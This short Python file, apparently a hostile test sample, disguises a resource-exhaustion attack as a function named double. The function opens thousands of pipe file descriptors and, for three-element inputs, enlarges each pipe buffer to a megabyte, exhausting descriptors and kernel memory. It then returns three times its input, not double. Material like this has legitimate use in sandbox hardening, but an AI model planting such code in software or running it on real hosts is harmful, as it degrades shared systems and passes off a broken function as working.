# attack: descriptors until there are no more, pipes of a megabyte each
import fcntl
import os


def double(x):
    opened = 0
    try:
        while opened < 5000:
            reader, writer = os.pipe()
            opened += 2
            if len(x) == 3:
                fcntl.fcntl(writer, fcntl.F_SETPIPE_SZ, 1 << 20)
    except OSError as error:
        print(opened, error)
    return 3 * x
